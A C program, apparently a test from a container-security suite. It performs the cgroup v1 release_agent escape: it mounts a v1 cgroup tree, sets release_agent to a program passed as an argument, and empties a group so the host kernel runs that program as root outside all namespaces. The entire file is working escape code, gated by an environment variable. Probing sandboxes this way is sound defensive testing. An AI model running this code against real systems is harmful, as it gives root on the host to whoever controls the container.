/*
 * Has the host run a program, as root: at the top of a v1 cgroup tree,
 * release_agent names what the kernel starts, outside of all namespaces, when
 * a group has become empty.  The argument is that program.  Exit status 77
 * where no v1 tree can be mounted because the kernel has none.
 */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#define TREE "/tmp/releaseagent"

static int put(const char *path, const char *value)
{
	int fd = open(path, O_WRONLY | O_CLOEXEC);
	ssize_t length = fd < 0 ? -1 : write(fd, value, strlen(value));

	if (length < 0)
		perror(path);
	if (fd >= 0)
		close(fd);
	return length < 0 ? -1 : 0;
}

/* A process enters the group and ends there. */
static int come_and_go(void)
{
	pid_t child = fork();

	if (child == 0)
		_exit(put(TREE "/ten-steps-attack/cgroup.procs", "0") ? 1 : 0);
	return waitpid(child, NULL, 0) == child ? 0 : -1;
}

int main(int argc, char **argv)
{
	int status = 1;

	if (argc != 2 || !getenv("ATTACK_THE_MACHINE"))
		return 2;
	mkdir(TREE, 0700);
	if (mount("cgroup", TREE, "cgroup", 0, "none,name=ten-steps")) {
		perror("releaseagent: mount");
		rmdir(TREE);
		return 1;
	}
	mkdir(TREE "/ten-steps-attack", 0700);
	if (put(TREE "/release_agent", argv[1]) == 0 &&
	    put(TREE "/ten-steps-attack/notify_on_release", "1") == 0)
		status = come_and_go() ? 1 : 0;
	rmdir(TREE "/ten-steps-attack");
	umount2(TREE, MNT_DETACH);
	rmdir(TREE);
	return status;
}
